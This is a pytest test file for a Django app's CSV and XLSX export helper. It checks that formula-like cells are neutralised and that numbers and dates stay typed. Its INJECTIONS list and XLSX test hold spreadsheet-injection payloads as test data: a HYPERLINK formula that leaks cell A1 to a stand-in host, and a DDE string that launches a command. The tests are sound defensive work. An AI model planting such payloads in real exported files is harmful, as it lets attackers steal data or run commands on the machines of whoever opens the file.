"""The spreadsheet export helper: formula cells neutralised, numbers and dates kept typed."""

import csv
import datetime
import io
import zoneinfo
from decimal import Decimal

import pytest
from django.http import StreamingHttpResponse
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from tisser.core import exports

PARIS = zoneinfo.ZoneInfo("Europe/Paris")
INJECTIONS = [
    '=HYPERLINK("http://exemple.invalid/?d="&A1;"Cliquez")',
    "=1+1",
    "+33 6 12 34 56 78 +cmd|' /C calc'!A0",
    "-foo",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", INJECTIONS)
def test_text_that_a_spreadsheet_would_run_is_neutralised(text):
    assert exports.spreadsheet_value(text) == "'" + text


@pytest.mark.parametrize("text", ["Marie", "Le Gall", "", "'déjà cité", "3 rue des Lilas"])
def test_ordinary_text_is_unchanged(text):
    assert exports.spreadsheet_value(text) == text


@pytest.mark.parametrize("value", [0, 12, -12, -3.5, Decimal("-12.50"), Decimal("4.2"), True])
def test_numbers_stay_numbers(value):
    result = exports.spreadsheet_value(value)
    assert result == value
    assert type(result) is type(value)


@pytest.mark.parametrize("text", ["-12", "+12", "-3,5", "-3.5"])
def test_text_that_is_only_a_number_needs_no_apostrophe(text):
    assert exports.spreadsheet_value(text) == text


def test_dates_stay_dates_and_aware_times_become_local():
    day = datetime.date(2026, 3, 1)
    assert exports.spreadsheet_value(day) == day
    moment = datetime.datetime(2026, 3, 1, 13, 30, tzinfo=datetime.UTC)
    assert exports.spreadsheet_value(moment) == datetime.datetime(2026, 3, 1, 14, 30)


def test_none_is_an_empty_cell():
    assert exports.spreadsheet_value(None) == ""


@given(st.text())
def test_no_text_ever_comes_out_starting_like_a_formula(text):
    value = exports.spreadsheet_value(text)
    # A lone dash ("unknown" in the national layout) is not a formula: it stays as typed.
    assert (
        not value.startswith(exports.FORMULA_TRIGGERS)
        or exports.PLAIN_NUMBER.fullmatch(value)
        or value == exports.PLAIN_DASH
    )
    assert value in (text, "'" + text)


def read_csv(text: str) -> list[list[str]]:
    assert text.startswith(exports.UTF8_BOM)
    return list(csv.reader(io.StringIO(text.removeprefix(exports.UTF8_BOM)), delimiter=";"))


def test_csv_is_for_french_excel():
    text = exports.csv_text(
        ["Nom", "Né le", "Montant", "Venu"],
        [
            ["=HYPERLINK(1)", datetime.date(1987, 5, 4), Decimal("-12.50"), True],
            ["Dupont; Jean\nsuite", None, -3, False],
        ],
    )
    assert text.startswith("\ufeffNom;Né le;Montant;Venu\r\n")
    assert read_csv(text) == [
        ["Nom", "Né le", "Montant", "Venu"],
        ["'=HYPERLINK(1)", "04/05/1987", "-12,50", "Oui"],
        ["Dupont; Jean\nsuite", "", "-3", "Non"],
    ]


def test_csv_response_streams_rows_as_they_are_read():
    consumed = []

    def rows():
        for number in range(3):
            consumed.append(number)
            yield [f"-ligne {number}", number]

    response = exports.csv_response(filename="orientations.csv", header=["Nom", "N°"], rows=rows())
    assert isinstance(response, StreamingHttpResponse)
    assert consumed == []  # nothing read before the response is sent
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="orientations.csv"'
    text = b"".join(response.streaming_content).decode("utf-8")
    assert consumed == [0, 1, 2]
    assert read_csv(text)[1:] == [["'-ligne 0", "0"], ["'-ligne 1", "1"], ["'-ligne 2", "2"]]


def test_xlsx_keeps_types_and_never_holds_a_formula():
    response = exports.xlsx_response(
        filename="dossiers.xlsx",
        sheet_title="Dossiers [mars]",
        header=["Nom", "Né le", "Montant", "Rendez-vous"],
        rows=[
            [
                '=HYPERLINK("http://exemple.invalid")',
                datetime.date(1987, 5, 4),
                -12,
                datetime.datetime(2026, 3, 1, 13, 30, tzinfo=datetime.UTC),
            ],
            ["@SUM(A1)", None, Decimal("4.5"), None],
        ],
    )
    assert response["Content-Type"] == exports.XLSX_CONTENT_TYPE
    assert response["Content-Disposition"] == 'attachment; filename="dossiers.xlsx"'
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet.title == "Dossiers  mars"
    name, born, amount, meeting = sheet[2]
    assert (name.value, name.data_type) == ('\'=HYPERLINK("http://exemple.invalid")', "s")
    assert born.value == datetime.datetime(1987, 5, 4)
    assert born.number_format == exports.XLSX_DATE_FORMAT
    assert (amount.value, amount.data_type) == (-12, "n")
    assert meeting.value == datetime.datetime(2026, 3, 1, 14, 30)
    assert sheet["A3"].value == "'@SUM(A1)"
    assert sheet["C3"].value == 4.5
    assert sheet["A1"].font.bold
    formulas = [
        cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"
    ]
    assert formulas == []
